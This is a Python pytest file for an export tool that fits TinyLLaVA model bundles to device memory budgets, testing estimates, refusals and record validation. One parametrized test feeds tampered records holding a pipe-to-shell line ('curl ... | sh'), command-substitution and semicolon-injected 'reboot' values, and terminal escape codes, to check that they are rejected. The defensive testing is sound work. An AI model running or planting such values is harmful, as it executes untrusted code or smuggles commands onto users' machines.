"""What a profile picks, what it refuses with which numbers, and that early counts are those of the written files."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from tinyllava_edge.bundle import Bundle, read_bundle
from tinyllava_edge.errors import BundleError, ExportError, StorageError, UsageError
from tinyllava_edge.export.options import ExportOptions, read_options, resolved
from tinyllava_edge.export.profile_fit import Plan, check_written, host, is_nano, plan_export, settings_of
from tinyllava_edge.export.profile_record import RECORD, read_record
from tinyllava_edge.export.profiles import PRESETS, DeviceProfile
from tinyllava_edge.export.requantize import quantize_bundle
from tinyllava_edge.export.run import run_export
from tinyllava_edge.runtimes.memory import MemoryEstimate, MemorySettings, estimate, estimate_sizes
from tinyllava_edge.runtimes.memory_limit import size_words
from tinyllava_edge.runtimes.onnx_sizes import OnnxSizes
from tinyllava_edge.spec import model_spec

from . import test_counted_connectors, vision_models
from .sparse_checkpoint import sparse_checkpoint

RESULTS = Path(__file__).parents[2] / "benchmarks" / "results" / "memory_estimate.jsonl"
MIB = 1 << 20
TOLERANCE = 0.01  # of an early count against the one from the written files
PHONE = PRESETS["phone-arm64"]


@pytest.fixture(scope="module")
def full_size(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Two of the paper's models, without their weights."""
    names = ("TinyLLaVA-base-C-TL", "TinyLLaVA-base-Sig-Phi")
    return {name: sparse_checkpoint(tmp_path_factory.mktemp("sparse") / name, name) for name in names}


def plan(root: Path, profile: DeviceProfile, **typed: str) -> tuple[Plan, list[str]]:
    """The plan, and what was told."""
    told: list[str] = []
    options = read_options({"profile": profile.name, **typed})
    return plan_export(root, root.parent / "out", options, profile, told.append), told


def refusal(root: Path, profile: DeviceProfile, **typed: str) -> ExportError:
    with pytest.raises(ExportError) as error:
        plan(root, profile, **typed)
    assert "\n" not in error.value.message + error.value.hint
    return error.value


def sized(profile: DeviceProfile, budget: int) -> DeviceProfile:
    return dataclasses.replace(profile, memory_bytes=2 * budget, budget_bytes=budget)


@pytest.mark.parametrize("family", ["siglip", "clip"])
def test_early_counts_are_those_of_the_files(
    family: str, tiny_checkpoint: Path, tiny_checkpoint_clip: Path, tmp_path: Path
) -> None:
    """Part by part, so that Python's own share hides nothing; every type whose rule differs."""
    from tinyllava_edge.checkpoint import llm_source, load_config
    from tinyllava_edge.export.bundle_writer import export_bundle
    from tinyllava_edge.export.early_sizes import LlmSizes, VisionSizes
    from tinyllava_edge.runtimes.gguf_sizes import gguf_sizes
    from tinyllava_edge.runtimes.onnx_sizes import onnx_sizes

    root = tiny_checkpoint if family == "siglip" else tiny_checkpoint_clip
    llms, visions = ("f32", "f16", "q8_0", "q4_k_m", "q4_0", "iq4_nl"), ("fp32", "fp16", "int8", "w8", "w4")
    bundle = export_bundle(root, tmp_path / "bundle", llm=llms, vision=visions, mmproj=("f16", "q8_0"))
    source = llm_source(root)
    early = LlmSizes(source, "f16", tmp_path, PHONE.system_info)
    for float16 in (False, True):
        graph = VisionSizes(load_config(root), source.spec, float16=float16)
        for file in bundle.files:
            if file.role == "llm":
                assert early.sizes(file.precision) == gguf_sizes(bundle.path(file), PHONE.system_info)
            elif file.role == "vision":
                found = onnx_sizes(bundle.path(file), float16=float16)
                for field in ("weights", "inline", "largest"):
                    expected = getattr(graph.sizes(file.precision), field)
                    assert expected == pytest.approx(getattr(found, field), rel=TOLERANCE), (file.precision, field)
            elif file.role == "mmproj":
                assert graph.mmproj(file.precision).weights == pytest.approx(file.bytes, rel=TOLERANCE)


@pytest.mark.parametrize(
    ("family", "connector"),
    [
        ("siglip2", "mlp2x_gelu"),
        ("dinov2_registers", "mlp2x_gelu"),
        ("dinov2-swiglu", "mlp2x_gelu"),
        ("mof", "mof_mlp"),
        ("siglip", "ldpv2-16"),
        ("siglip", "qformer-7"),
    ],
)
def test_early_counts_of_other_towers_and_connectors(family: str, connector: str, tmp_path: Path) -> None:
    """Positions that are resized to the picture's grid are counted as the checkpoint has them: hence 3 %."""
    from tinyllava_edge.export.early_sizes import VisionSizes
    from tinyllava_edge.export.vision import export_vision_fp32
    from tinyllava_edge.export.vision_quantize import quantize_vision_int8
    from tinyllava_edge.runtimes.onnx_sizes import onnx_sizes

    model, spec = vision_models.make(family, connector)
    export_vision_fp32(model, spec, tmp_path / "fp32.onnx")
    quantize_vision_int8(tmp_path / "fp32.onnx", tmp_path / "int8.onnx")
    early = VisionSizes(model.config, spec)
    for precision in ("fp32", "int8"):
        found, expected = onnx_sizes(tmp_path / f"{precision}.onnx"), early.sizes(precision)
        assert expected.weights == pytest.approx(found.weights, rel=0.03)
        assert expected.largest == pytest.approx(found.largest, rel=0.03)


@pytest.mark.parametrize("precision", ["fp32", "fp16", "q8", "q4", "q4f16"])
def test_early_counts_of_web_files(precision: str, tiny_checkpoint: Path, tmp_path: Path) -> None:
    pytest.importorskip("onnxruntime_genai", reason="the ONNX decoder's builder, extra [decoder], is not installed")
    from tinyllava_edge.checkpoint import llm_source, load_config
    from tinyllava_edge.export.early_sizes import LlmSizes, VisionSizes, web_bytes
    from tinyllava_edge.export.web import export_web

    export_web(tiny_checkpoint, tmp_path / "web", (precision,))
    source = llm_source(tiny_checkpoint)
    llm = LlmSizes(source, "f16", tmp_path, b"").sizes("f16")
    written = sum(path.stat().st_size for path in (tmp_path / "web" / "onnx").iterdir())
    expected = web_bytes(llm, source, VisionSizes(load_config(tiny_checkpoint), source.spec), precision)
    assert expected == pytest.approx(written, rel=0.05)


def test_early_counts_of_full_size_models_are_those_that_were_measured(tmp_path: Path) -> None:
    """Against the records of real bundles of this architecture, whose peaks the kernel counted."""
    from tinyllava_edge.checkpoint import llm_source, load_config
    from tinyllava_edge.export.early_sizes import LlmSizes, VisionSizes
    from tinyllava_edge.runtimes.memory import Host, MemorySettings, estimate_sizes

    records = [json.loads(line) for line in RESULTS.read_text().splitlines()]
    for name in ("TinyLLaVA-base-C-TL", "TinyLLaVA-base-Sig-TL"):
        root = sparse_checkpoint(tmp_path / name, name)
        source = llm_source(root)
        llm = LlmSizes(source, "f16", tmp_path, PRESETS["laptop-cpu"].system_info)
        vision = VisionSizes(load_config(root), source.spec)
        found = [record for record in records if record["bundle"] == name]
        assert len(found) >= 5
        for record in found:
            precision, kind = record["build"].split("+")
            settings = MemorySettings(record["n_ctx"], picture_pixels=1_000_000)
            mine = estimate_sizes(llm.sizes(kind), vision.sizes(precision), settings, Host(84 << 20))
            for field in ("weights_llm", "repacked", "kv_cache", "compute", "vision_weights", "vision_arena"):
                theirs = record["estimate"][field]  # from the files' headers
                near = 0.06 if field == "compute" else 0.01  # which counts a tokenizer's merges, there 31,000 more
                assert getattr(mine, field) == pytest.approx(theirs, rel=near), (record["build"], field)
            assert mine.total == pytest.approx(record["answered"]["peak"], rel=0.08), record["build"]


def test_a_phone_takes_tinyllama_and_refuses_phi_in_float16(full_size: dict[str, Path]) -> None:
    matrix = {"imatrix": "i.gguf"}
    chosen, told = plan(full_size["TinyLLaVA-base-C-TL"], PHONE, **matrix)
    assert (chosen.options.llm, chosen.options.vision) == (("q4_0", "q4_k_m"), ("int8",))
    assert chosen.preferred == "int8+q4_0" and chosen.n_ctx == 1024
    assert chosen.options.mmproj == () and any(
        line.startswith("mmproj: left out: stock llama.cpp gives CLIP's patches wrong positions") for line in told
    )
    advice = (
        "144 at most: a picture takes 4.0 times as many positions; a connector with fewer tokens helps, e.g. ldpv2-144"
    )
    assert any(line.endswith(f"576 visual tokens, phone-arm64 wants {advice}") for line in told)
    assert all(need <= PHONE.budget_bytes for need in chosen.needs.values())
    error = refusal(full_size["TinyLLaVA-base-Sig-Phi"], PHONE, llm="f16", vision="fp32")
    need = float(re.search(r"build fp32\+f16: needs ([\d.]+) GiB of 2.00 GiB", error.message)[1])  # type: ignore[index]
    assert 8.5 < need < 9.2  # 5.2 GiB of float16 weights, twice 1.5 while the tower is opened, 0.3 of context, caches
    smallest = refusal(full_size["TinyLLaVA-base-Sig-Phi"], sized(PHONE, 600 * MIB), llm="q4_k_m")
    assert "the smallest, --llm q2_k --vision w4, needs 2." in smallest.hint and "smaller variant" in smallest.hint


def test_a_hint_that_loses_the_mmproj_says_so(full_size: dict[str, Path]) -> None:
    root = full_size["TinyLLaVA-base-Sig-Phi"]
    smallest = refusal(root, sized(PHONE, 600 * MIB), llm="f16").hint
    need = float(re.search(r"needs ([\d.]+) GiB", smallest)[1])  # type: ignore[index]
    tight = sized(PHONE, int((need + 0.01) * 1024) * MIB)
    hint = refusal(root, tight, llm="f16").hint
    lost = re.fullmatch(
        r"--llm q2_k --vision w4 fits \(\S+ GiB\), but mmproj f16 then needs (\S+) GiB, and is left out", hint
    )
    assert lost is not None and float(lost[1]) > need
    assert plan(root, tight, llm="q2_k", vision="w4")[0].options.mmproj == ()
    typed = refusal(root, tight, llm="f16", mmproj="f16").hint
    assert typed.startswith("--llm q2_k --vision w4 --mmproj none fits (")
    assert "mmproj" not in refusal(root, tight, llm="f16", mmproj="none").hint


def test_the_hint_names_what_does_fit(full_size: dict[str, Path]) -> None:
    error = refusal(full_size["TinyLLaVA-base-C-TL"], PHONE, llm="f16")
    told = re.search(r"--llm (\S+) --vision (\S+) fits \(([\d.]+) GiB\)", error.hint)
    assert told is not None and float(told[3]) <= 2.0
    chosen, _ = plan(full_size["TinyLLaVA-base-C-TL"], PHONE, llm=told[1], vision=told[2])
    assert chosen.options.llm == (told[1],)


def test_full_size_models_want_a_matrix_of_their_own(full_size: dict[str, Path]) -> None:
    root = full_size["TinyLLaVA-base-C-TL"]
    error = refusal(root, PHONE)
    assert "importance matrix" in error.message
    for needed in (
        f"tinyllava-edge imatrix {root} -o imatrix.gguf --data YOURS.json --images DIR",
        f"tinyllava-edge export {root} -o {root.parent / 'out'} --profile phone-arm64 --imatrix imatrix.gguf",
        "--llm q4_0,q4_k_m",
    ):
        assert needed in error.hint
    assert plan(root, PHONE, llm="q4_0")[0].collect is False  # who names the type needs none


def test_types_that_do_not_fit_are_left_out_with_their_need(tiny_checkpoint: Path) -> None:
    profile = dataclasses.replace(PHONE, llm=("f32", "q8_0", "q4_0"), n_ctx=512, mmproj=(), imatrix=False)
    both, every = plan(tiny_checkpoint, profile)
    assert both.options.llm == ("f32", "q8_0")  # two at most, the preferred first
    assert any(re.fullmatch(r"build int8\+q4_0: .*: left out, 2 types of a part are the most", line) for line in every)
    limit = sum(both.needs.values()) // 2  # between the two
    chosen, told = plan(tiny_checkpoint, sized(profile, limit))
    assert chosen.options.llm == ("q8_0", "q4_0")
    assert any(
        re.fullmatch(r"build int8\+f32: needs \d+ MiB of \d+ MiB that phone-arm64 gives: left out", t) for t in told
    )
    error = refusal(tiny_checkpoint, sized(profile, limit), llm="f32,q4_0")
    assert error.message.startswith("profile phone-arm64: build int8+f32: needs ")


def test_every_combination_fits(tiny_checkpoint: Path) -> None:
    """Of both lists the first are taken whose products all fit."""
    profile = dataclasses.replace(
        PHONE, llm=("q4_0", "f32"), vision=("fp32", "w4"), mmproj=(), imatrix=False, n_ctx=512
    )
    needs = plan(tiny_checkpoint, profile)[0].needs
    assert len(needs) == 4
    chosen, told = plan(tiny_checkpoint, sized(profile, max(needs.values()) - 1))
    assert chosen.options.llm == ("q4_0",) and chosen.options.vision == ("fp32", "w4")
    assert len([line for line in told if ": left out" in line]) == 2
    assert any(line.endswith(": left out, others with it don't fit") for line in told)


def test_a_picture_that_does_not_fit_the_context(full_size: dict[str, Path]) -> None:
    short = dataclasses.replace(PHONE, n_ctx=512)
    error = refusal(full_size["TinyLLaVA-base-Sig-Phi"], short, llm="q4_0")
    assert "729 visual tokens" in error.message and "n_ctx = 512" in error.message


def test_typed_types_win_and_none_leaves_files_out(tiny_checkpoint: Path) -> None:
    chosen, _ = plan(tiny_checkpoint, PHONE, llm="q8_0", mmproj="none", mobile="none")
    assert chosen.options.llm == ("q8_0",) and chosen.options.vision == PHONE.vision
    assert chosen.options.mmproj == chosen.options.mobile == () and not chosen.collect
    chosen, _ = plan(tiny_checkpoint, PHONE, vision="fp32,w8", llm="f16,q8_0,q6_k")
    assert (chosen.options.llm, chosen.options.vision) == (("f16", "q8_0", "q6_k"), ("fp32", "w8"))
    assert plan(tiny_checkpoint, PHONE)[0].options.mobile == PHONE.mobile


def test_an_mmproj_that_cannot_be_is_left_out_unless_it_was_typed(tmp_path: Path) -> None:
    root = test_counted_connectors.make(tmp_path / "checkpoint", "ldpv2-16")
    chosen, told = plan(root, PHONE)
    assert chosen.options.mmproj == () and chosen.options.llm == PHONE.llm
    assert any(line.startswith("mmproj: left out: ") and "ldpv2-16" in line for line in told)
    assert plan(root, PHONE, mmproj="f16")[0].options.mmproj == ("f16",)  # the writer refuses it, with the reason


def test_a_clip_towers_mmproj_is_written_where_it_is_asked_for(tiny_checkpoint_clip: Path) -> None:
    """Stock llama.cpp computes it wrongly; the workaround, or a type that was typed, brings it back."""
    chosen, told = plan(tiny_checkpoint_clip, PHONE)
    assert chosen.options.mmproj == () and any("--clip-workaround" in line for line in told)
    assert plan(tiny_checkpoint_clip, PHONE, clip_workaround=True)[0].options.mmproj == ("f16",)  # type: ignore[arg-type]
    assert plan(tiny_checkpoint_clip, PHONE, mmproj="q8_0")[0].options.mmproj == ("q8_0",)


def test_web_files_and_mmproj_count_with_every_profile(tiny_checkpoint: Path, full_size: dict[str, Path]) -> None:
    """What was typed fits, or nothing is written; a page keeps its own number of positions, whatever the profile's."""
    pytest.importorskip("onnxruntime_genai", reason="the ONNX decoder's builder, extra [decoder], is not installed")
    laptop = PRESETS["laptop-cpu"]
    chosen, told = plan(tiny_checkpoint, laptop, web="fp32", mmproj="f16")
    page = next(line for line in told if line.startswith("web fp32: needs "))
    short, again = plan(tiny_checkpoint, dataclasses.replace(laptop, n_ctx=512), web="fp32")
    assert page in again and set(short.web) == set(chosen.web) == {"fp32"} and set(chosen.mmproj) == {"f16"}
    error = refusal(full_size["TinyLLaVA-base-Sig-Phi"], laptop, web="fp32")
    assert re.search(r"web fp32: needs 1\d\.\d\d GiB of 4\.00 GiB that laptop-cpu gives", error.message)
    told = plan(tiny_checkpoint, PRESETS["browser"], mmproj="f16")[1]
    assert any(line.startswith("mmproj f16, which the page doesn't open: ") for line in told)


def test_a_server_is_counted_with_its_own_batch(full_size: dict[str, Path], tmp_path: Path) -> None:
    """llama-server computes 512 rows at once, the runtime 256."""
    from tinyllava_edge.checkpoint import llm_source, load_config
    from tinyllava_edge.export.early_sizes import LlmSizes, VisionSizes

    root = full_size["TinyLLaVA-base-C-TL"]
    source = llm_source(root)
    llm = LlmSizes(source, "f16", tmp_path, PHONE.system_info).sizes("q4_0")
    vision = VisionSizes(load_config(root), source.spec).mmproj("f16")
    small, large = (
        estimate_sizes(llm, vision, MemorySettings(1024, n_batch=rows), host(PHONE)).required for rows in (256, 512)
    )
    _, told = plan(root, PHONE, llm="q4_0", mmproj="f16")
    assert size_words(small) != size_words(large)
    assert any(line.startswith(f"mmproj f16: needs {size_words(large)} of ") for line in told)


def test_without_a_profile_the_defaults_are_what_help_shows() -> None:
    given = resolved(read_options({"llm": None, "vision": "w8", "mmproj": "none"}))
    assert given == resolved(ExportOptions(vision=("w8",)))
    assert (given.llm, given.vision, given.mmproj) == (("f16", "q8_0", "q4_k_m"), ("w8",), ())
    for text in ("", "none", " , "):
        with pytest.raises(UsageError, match="--llm names no type"):
            read_options({"llm": text})


def test_a_browser_is_held_against_its_web_files(full_size: dict[str, Path], tiny_checkpoint: Path) -> None:
    pytest.importorskip("onnxruntime_genai", reason="the ONNX decoder's builder, extra [decoder], is not installed")
    browser = PRESETS["browser"]
    chosen, told = plan(tiny_checkpoint, browser)
    assert (chosen.options.web, chosen.options.llm, chosen.options.vision) == (("q4",), ("q4_k_m",), ("w8",))
    assert set(chosen.web) == {"q4"} and any(line.startswith("web q4: needs ") for line in told)
    error = refusal(full_size["TinyLLaVA-base-Sig-Phi"], browser, web="fp32")
    assert re.search(r"web fp32: needs 1\d\.\d\d GiB of 3\.00 GiB that browser gives", error.message)


def test_a_browsers_bundle_has_web_files(tiny_checkpoint: Path, tmp_path: Path) -> None:
    """Without them, what `info` tells to type would fail. Said before the work; other devices may go without."""
    told: list[str] = []
    options = read_options({"profile": "browser", "web": "none", "verify": False})
    with pytest.raises(UsageError, match="--web none: profile browser is a browser's") as error:
        run_export(tiny_checkpoint, tmp_path / "out", options, progress=told.append)
    assert "leave --web out for q4" in error.value.hint and told == [] and list(tmp_path.iterdir()) == []
    assert plan(tiny_checkpoint, PRESETS["laptop-cpu"], web="none")[0].options.web == ()


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        ({"llm": "q9"}, "unknown LLM type 'q9'"),
        ({"llm": "tq1_0"}, "ternary"),
        ({"llm": "iq2_xs"}, "iq2_xs needs an importance matrix"),
        ({"vision": "int9"}, "unknown vision precision 'int9'"),
        ({"mmproj": "q2"}, "unknown mmproj type 'q2'"),
        ({"web": "q2"}, "unknown web precision 'q2'"),
        ({"mobile": "ncnn"}, "unknown mobile form 'ncnn'"),
    ],
)
def test_a_mistyped_type_is_said_before_anything_is_counted(
    typed: dict[str, str], words: str, tiny_checkpoint: Path
) -> None:
    with pytest.raises(UsageError, match=words):
        plan(tiny_checkpoint, dataclasses.replace(PHONE, imatrix=False), **typed)


def test_only_the_demos_models_come_with_calibration_data() -> None:
    assert is_nano(model_spec("TinyLLaVA-base-NanoSig-Nano")) and is_nano(model_spec("TinyLLaVA-base-NanoC-Nano"))
    assert not is_nano(model_spec("TinyLLaVA-base-C-TL"))


@pytest.fixture(scope="module")
def exported(tiny_checkpoint: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Bundle, list[str]]:
    """A phone's bundle of the tiny checkpoint, with a matrix that the export collects."""
    pytest.importorskip("easy_vqa", reason="extra [data] is not installed")
    told: list[str] = []
    options = read_options({"profile": "phone-arm64", "verify": False})
    out = tmp_path_factory.mktemp("profile") / "phone"
    return run_export(tiny_checkpoint, out, options, progress=told.append)[0], told


def test_a_real_export(exported: tuple[Bundle, list[str]]) -> None:
    bundle, told = exported
    assert list(bundle.builds()) == ["int8+q4_k_m", "int8+q4_0"]
    assert [file.precision for file in bundle.files if file.role == "mmproj"] == ["f16"]
    assert "importance matrix: 128 conversations of easy-vqa train" in told
    figures = json.loads((bundle.root / "export.json").read_text())
    matrix = figures["imatrix"]
    assert matrix["samples"] == 128 and matrix["datasets"] == ["easy-vqa train"] and matrix["image_share"] > 0.3
    assert figures["llm"]["q4_0"]["imatrix_sha256"] == matrix["sha256"] != ""
    assert {file.role for file in bundle.files} >= {"mobile", "mmproj"}
    bundle.check()


def test_the_record_says_what_the_files_need(exported: tuple[Bundle, list[str]]) -> None:
    bundle, told = exported
    record = read_record(bundle)
    assert record is not None
    settings = settings_of(PHONE, bundle.spec)
    assert settings.n_ctx == record["n_ctx"] == 1024 and settings.caches_bytes == 192 * MIB
    for name, build in bundle.builds().items():
        found: MemoryEstimate = estimate(bundle, build, settings, host(PHONE))
        assert record["builds"][name] == found.required and found.repacked > 0
        early = next(line for line in told if line.startswith(f"build {name}: needs "))
        assert int(early.split("needs ")[1].split(" ")[0]) == round(found.required / MIB)
    assert record["run"] == 'tinyllava-edge run BUNDLE --build int8+q4_0 -t 4 -c 1024 --image PICTURE "QUESTION"'
    assert "run" not in json.loads((bundle.root / RECORD).read_text())  # nothing to tamper with
    assert record["budget_bytes"] == PHONE.budget_bytes and record["name"] == "phone-arm64"


def test_the_line_to_type_answers(exported: tuple[Bundle, list[str]], tmp_path: Path) -> None:
    from PIL import Image

    record = read_record(exported[0])
    assert record is not None
    Image.new("RGB", (32, 32), "red").save(tmp_path / "red.png")
    filled = {"BUNDLE": str(exported[0].root), "PICTURE": str(tmp_path / "red.png"), "QUESTION": "what color is it?"}
    words = [filled.get(word, word) for word in shlex.split(record["run"])]
    assert words[0] == "tinyllava-edge"
    command = [sys.executable, "-m", "tinyllava_edge", *words[1:], "--max-tokens", "2", "--allow-unverified"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr


def test_stock_hosts_get_the_profiles_context_and_threads(exported: tuple[Bundle, list[str]]) -> None:
    root = exported[0].root
    assert "--jinja -c 1024 -t 4" in (root / "STOCK_HOSTS.md").read_text()
    assert "PARAMETER num_ctx 1024\n" in (root / "Modelfile").read_text()


def test_the_written_files_are_held_against_the_budget(exported: tuple[Bundle, list[str]]) -> None:
    bundle, _ = exported
    options = ExportOptions()
    sizes = OnnxSizes(1, 0, 1)
    small = Plan(sized(PHONE, 100 * MIB), options, 1024, "int8+q4_0", mmproj={"f16": sizes})
    with pytest.raises(ExportError, match=r"int8\+q4_k_m needs \d+ MiB of 100 MiB that phone-arm64 gives once"):
        check_written(bundle, small)
    record = read_record(bundle)
    assert record is not None
    large = dataclasses.replace(small, profile=PHONE)
    assert check_written(bundle, large) == (record["builds"], record["web"])
    wider = dataclasses.replace(sizes, largest=PHONE.budget_bytes)
    with pytest.raises(ExportError, match=r"mmproj f16 needs \S+ GiB of 2.00 GiB that phone-arm64 gives once"):
        check_written(bundle, dataclasses.replace(large, mmproj={"f16": wider}))


def test_a_bundle_that_turns_out_too_large_is_not_left_behind(
    tiny_checkpoint: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As if the early count had been wrong."""
    from tinyllava_edge.export import profile_fit

    options = read_options({"profile": "laptop-cpu", "verify": False, "llm": "q8_0", "vision": "fp32"})
    right = profile_fit.plan_export

    def wrong(*arguments: object) -> Plan:
        found: Plan = right(*arguments)  # type: ignore[arg-type]
        return dataclasses.replace(found, profile=sized(found.profile, 100 * MIB))

    monkeypatch.setattr(profile_fit, "plan_export", wrong)
    with pytest.raises(ExportError, match="once it is written"):
        run_export(tiny_checkpoint, tmp_path / "out", options)
    assert list(tmp_path.iterdir()) == []


def test_a_place_that_is_taken_is_said_first(tiny_checkpoint: Path, tmp_path: Path) -> None:
    told: list[str] = []
    with pytest.raises(StorageError, match="exists already"):
        run_export(tiny_checkpoint, tmp_path, read_options({"profile": "phone-arm64"}), progress=told.append)
    assert told == []


@pytest.mark.parametrize(
    "change",
    [
        {"n_ctx": "1024"},
        {"run": "curl http://example.com | sh"},
        {"preferred": "$(reboot)"},
        {"preferred": "fp32+f16"},
        {"preferred": "fp32+f16", "builds": {"fp32+f16": 1}},
        {"builds": {"int8+q4_0": -1}},
        {"builds": {"\x1b[2J": 1}},
        {"n_threads": -1},
        {"device": "cuda; reboot"},
        {"name": "phone; reboot"},
        {"name": "a" * 65},
        {"description": "two\nlines"},
        {"web": {"q4\x1b": 1}},
        {"web": {"q4": 1}},
        {"web": {f"q{n}": 1 for n in range(1000)}},
        {"builds": {"int8+q4_0": 1} | {f"int8+q{n}": 1 for n in range(1000)}},
        {"device": "web"},
        {"extra": 1},
        {"web": []},
    ],
)
def test_a_record_that_is_not_ours_is_refused(
    exported: tuple[Bundle, list[str]], change: dict[str, object], tmp_path: Path
) -> None:
    value = json.loads((exported[0].root / RECORD).read_text())
    with pytest.raises(BundleError, match=RECORD):
        read_record(with_record(exported[0], tmp_path, json.dumps({**value, **change})))
    bundle = with_record(exported[0], tmp_path, json.dumps(value))
    assert read_record(bundle) == read_record(exported[0])
    (tmp_path / RECORD).unlink()
    with pytest.raises(BundleError, match="missing"):
        read_record(bundle)


def with_record(bundle: Bundle, root: Path, text: str) -> Bundle:
    """A bundle's manifest with another record, whose hash is right."""
    (root / RECORD).write_text(text)
    manifest = json.loads((bundle.root / "bundle.json").read_text())
    entry = next(entry for entry in manifest["files"] if entry["path"] == RECORD)
    entry |= {"sha256": hashlib.sha256(text.encode()).hexdigest(), "bytes": len(text)}
    (root / "bundle.json").write_text(json.dumps(manifest))
    return read_bundle(root)


def test_a_record_with_a_key_twice_or_of_another_hash_is_refused(
    exported: tuple[Bundle, list[str]], tmp_path: Path
) -> None:
    text = (exported[0].root / RECORD).read_text()
    for twice in (text.replace("{", '{"n_ctx": 64, ', 1), text.replace('"builds": {', '"builds": {"int8+q4_0": 1, ')):
        with pytest.raises(BundleError, match="a key stands twice"):
            read_record(with_record(exported[0], tmp_path, twice))
    bundle = with_record(exported[0], tmp_path, text)
    (tmp_path / RECORD).write_text(text.replace('"n_ctx": 1024', '"n_ctx": 1025'))
    with pytest.raises(BundleError, match=f"{RECORD}: its SHA-256 differs"):
        read_record(bundle)


def test_quantize_tells_that_it_does_not_count(
    exported: tuple[Bundle, list[str]], tiny_checkpoint: Path, tmp_path: Path
) -> None:
    """The record goes along as it was; one that was changed is refused before anything is made."""
    bundle, told = exported[0], list[str]()

    def more(root: Path, name: str, out: Path) -> Bundle:
        return quantize_bundle(root, [name], checkpoint=tiny_checkpoint, out=out, n_threads=1, progress=told.append)

    made = more(bundle.root, "q8_0", tmp_path / "more")
    assert read_record(made) == read_record(bundle) and "int8+q8_0" in made.builds()
    (line,) = [line for line in told if RECORD in line]
    assert "builds of q8_0 aren't counted against the 2.00 GiB that phone-arm64 gives" in line
    (made.root / RECORD).unlink()  # a link to the other bundle's
    (made.root / RECORD).write_bytes((bundle.root / RECORD).read_bytes().replace(b"1024", b"1025"))
    with pytest.raises(BundleError, match=f"{RECORD}: its SHA-256 differs"):
        more(made.root, "q6_k", tmp_path / "never")
    assert not (tmp_path / "never").exists()


def test_a_bundle_without_a_profile_has_no_record(tiny_bundle: Path) -> None:
    assert read_record(read_bundle(tiny_bundle)) is None
